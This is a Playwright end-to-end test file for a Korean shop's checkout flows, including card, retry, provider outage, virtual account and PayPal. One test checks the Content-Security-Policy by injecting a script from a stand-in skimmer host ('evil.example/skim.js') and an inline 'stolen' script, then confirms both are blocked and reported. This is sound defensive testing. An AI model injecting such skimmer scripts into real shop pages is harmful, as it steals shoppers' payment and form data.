import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { adminOrders } from '#shop/order/contract/desk.ts'
import { desktop, phone, visitor } from './browser.ts'
import { makeItem, staff, stockOf } from './desk.ts'
import { addToCart, cartLines, counted, fillOrderForm, open, words } from './steps.ts'

const ordersOf = async (name: string) =>
  (await (await staff())(adminOrders.list, { query: { keyword: name } })).data
const pay = /원 결제하기$/
const paidUrl = /\/shop\/order\/\d+\/confirm/

/** The order form of one item, filled as a guest, with this way to pay. */
async function formWith(name: string, way: string, size = desktop) {
  const item = await makeItem({ it_name: `${name} 캔들` })
  const guest = await visitor(size)
  await addToCart(guest.page, item.it_id)
  await open(guest.page, '/shop/order-form')
  await guest.page.getByRole('region', { name: words.kr.orderer, exact: true }).waitFor()
  await fillOrderForm(guest.page, words.kr, name, 'look-it-up-9')
  await guest.page.getByRole('radio', { name: new RegExp(`^${way}`) }).check()
  return { ...guest, item }
}

const nameField = (page: Page) =>
  page
    .getByRole('region', { name: words.kr.orderer, exact: true })
    .getByLabel(words.kr.name, { exact: true })

test('a card: pay in the window, see the thank-you page, reload and go back without paying again', async () => {
  const { page, item, complaints } = await formWith('카드손님', '신용·체크카드')
  await page.getByRole('button', { name: pay }).dblclick()
  await page.waitForURL(/\/twin\/toss\/window/)
  expect(await stockOf(item)).toEqual({ stock: 20, reserved: 1 })
  await page.getByRole('button', { name: /결제하기$/ }).click()
  await page.waitForURL(paidUrl)
  await page.reload()
  await page.getByRole('main').getByText('카드손님').filter({ visible: true }).first().waitFor()
  expect(await ordersOf('카드손님')).toMatchObject([
    { od_status: '입금', od_settle_case: '신용카드' },
  ])
  expect(await stockOf(item)).toEqual({ stock: 19, reserved: 0 })
  await page.goBack()
  await page.waitForLoadState()
  expect((await ordersOf('카드손님')).length).toBe(1)
  await open(page, '/shop/cart')
  expect(await cartLines(page).count()).toBe(0)
  expect(complaints).toEqual([])
})

test('the order form runs the shop’s own scripts alone: what else wants in is kept out and reported', async () => {
  const { page } = await formWith('스크립트', '신용·체크카드')
  const scripts: string[] = []
  page.on(
    'request',
    (request) => request.resourceType() === 'script' && scripts.push(request.url()),
  )
  const reload = await page.reload({ waitUntil: 'networkidle' })
  const policy = reload?.headers()['content-security-policy'] ?? ''
  const allowed = /script-src ([^;]+)/.exec(policy)?.[1]?.trim().split(' ') ?? []
  // the finder of post codes is the one outsider; a shop with keys adds its payment company
  expect(allowed.filter((one) => !one.startsWith("'sha256-"))).toEqual([
    "'self'",
    'https://t1.daumcdn.net',
    'https://t1.kakaocdn.net',
  ])
  expect(scripts.length).toBeGreaterThan(0)
  expect(scripts.filter((src) => !src.startsWith(`${new URL(page.url()).origin}/assets/`))).toEqual(
    [],
  )
  const reported = page.waitForRequest((request) => request.url().endsWith('/csp-report'))
  const ran = await page.evaluate(async () => {
    const add = (fill: (script: HTMLScriptElement) => void) =>
      new Promise<void>((resolve) => {
        const script = document.createElement('script')
        fill(script)
        script.onerror = () => resolve()
        document.head.append(script)
        setTimeout(resolve, 500)
      })
    await add((script) => {
      script.src = 'https://evil.example/skim.js'
    })
    await add((script) => {
      script.textContent = 'window.stolen = true'
    })
    return 'stolen' in window
  })
  expect(ran).toBe(false)
  expect((await (await reported).response())?.status()).toBe(204)
})

test('a cancelled and then a refused payment come back to the filled form with the reason, and the third try works', async () => {
  const { page, item } = await formWith('다시손님', '신용·체크카드', phone)
  await page.getByRole('button', { name: pay }).click()
  await page.getByRole('button', { name: '결제 취소' }).click()
  await page.getByRole('alert').filter({ hasText: '결제를 취소하셨어요.' }).waitFor()
  expect(await nameField(page).inputValue()).toBe('다시손님')
  expect(await page.getByLabel(words.kr.password, { exact: true }).inputValue()).toBe(
    'look-it-up-9',
  )
  expect(await page.getByLabel(words.kr.agree).isChecked()).toBe(true)
  await expect.poll(() => stockOf(item)).toEqual({ stock: 20, reserved: 0 })
  await counted(page)
  await page.getByRole('button', { name: pay }).click()
  await page.getByText('문제가 생긴 경우 해 보기').click()
  await page.getByRole('button', { name: '승인할 때 한도초과·잔액부족' }).click()
  await page.getByRole('alert').filter({ hasText: '한도가 넘었거나 잔액이 부족해' }).waitFor()
  await counted(page)
  await page.getByRole('button', { name: pay }).click()
  await page.getByRole('button', { name: /결제하기$/ }).click()
  await page.waitForURL(paidUrl)
  expect((await ordersOf('다시손님')).length).toBe(1)
})

test('a payment company that does not answer: its way is greyed with the reason, the others stay, and it comes back by itself', async () => {
  const { page, item } = await formWith('쉬는손님', '신용·체크카드')
  const card = page.getByRole('radio', { name: /^신용·체크카드/ })
  let rests = true
  await page.route('**/api/v1/payments/ways', async (route) => {
    const answer = await route.fetch()
    const told: { data: { rests_for: number | null }[] } = await answer.json()
    await route.fulfill({
      response: answer,
      json: { data: told.data.map((one) => ({ ...one, rests_for: rests ? 9 : null })) },
    })
  })
  const wayRests = '지금은 결제 회사가 응답하지 않아요.'
  await page.route('**/api/v1/orders', (route) =>
    rests
      ? route.fulfill({
          status: 503,
          headers: { 'retry-after': '9' },
          json: { message: wayRests, code: 'UNAVAILABLE', errors: { od_settle_case: [wayRests] } },
        })
      : route.continue(),
  )
  await page.getByRole('button', { name: pay }).click()
  await page.getByRole('group', { name: '결제 방법' }).getByText(wayRests).waitFor()
  await page.getByText('응답이 없어요').filter({ visible: true }).first().waitFor()
  expect([
    await card.isDisabled(),
    await page.getByRole('radio', { name: /^무통장입금/ }).isEnabled(),
  ]).toEqual([true, true])
  expect([await nameField(page).inputValue(), await stockOf(item)]).toEqual([
    '쉬는손님',
    { stock: 20, reserved: 0 },
  ])
  rests = false
  await expect.poll(() => card.isEnabled(), { timeout: 60_000 }).toBe(true)
  await page.getByRole('button', { name: pay }).click()
  await page.waitForURL(/\/twin\/toss\/window/)
})

test('going back from the window frees the goods, and the form is as it was', async () => {
  const { page, item } = await formWith('뒤로손님', '간편결제')
  await page.getByRole('button', { name: pay }).click()
  await page.waitForURL(/\/twin\/toss\/window/)
  await page.goBack()
  await expect.poll(() => stockOf(item)).toEqual({ stock: 20, reserved: 0 })
  await nameField(page).waitFor()
  expect(await nameField(page).inputValue()).toBe('뒤로손님')
})

test('a virtual account: the order waits with its account, and is paid as soon as the deposit is told', async () => {
  const { page } = await formWith('가상손님', '가상계좌')
  await page.getByRole('button', { name: pay }).click()
  await page.getByRole('button', { name: '가상계좌 받기' }).click()
  await page.waitForURL(paidUrl)
  const card = page.getByRole('region', { name: '입금할 금액' })
  await card.getByText(/우리은행 \d+/).waitFor()
  const [bank] = await Promise.all([
    page.waitForEvent('popup'),
    card.getByRole('link', { name: /모의 입금/ }).click(),
  ])
  await bank.getByRole('button', { name: '지금 입금하기' }).click()
  await bank.getByText('입금됐어요').waitFor()
  await expect
    .poll(async () => (await ordersOf('가상손님')).map(({ od_status }) => od_status))
    .toEqual(['입금'])
  await page.reload()
  await page.getByRole('heading', { name: '주문해 주셔서 고마워요' }).waitFor()
})

test('PayPal in English: dollars, approve, and back to the thank-you page', async () => {
  const item = await makeItem({ it_name: '달러 캔들' })
  const { page, complaints } = await visitor(desktop)
  await open(page, '/')
  await page.getByRole('button', { name: words.kr.language }).first().click()
  await page.waitForFunction(() => document.documentElement.lang === 'en')
  await open(page, `/shop/product/${item.it_id}`)
  await page.getByRole('button', { name: words.en.addToCart }).click()
  await open(page, '/shop/order-form')
  await page.getByRole('region', { name: words.en.orderer, exact: true }).waitFor()
  await fillOrderForm(page, words.en, 'Dollar Guest', 'look-it-up-8')
  await page.getByRole('radio', { name: /^PayPal/ }).check()
  await page.getByRole('button', { name: /^Pay \$\d+\.\d{2}$/ }).click()
  await page.waitForURL(/\/twin\/paypal\/checkoutnow/)
  await page.getByRole('button', { name: /^Pay \$/ }).click()
  await page.waitForURL(paidUrl)
  await page.getByRole('heading', { name: /Thank you/ }).waitFor()
  expect(await ordersOf('Dollar Guest')).toMatchObject([
    { od_status: '입금', currency: 'usd', od_settle_case: 'PayPal' },
  ])
  expect(complaints).toEqual([])
})
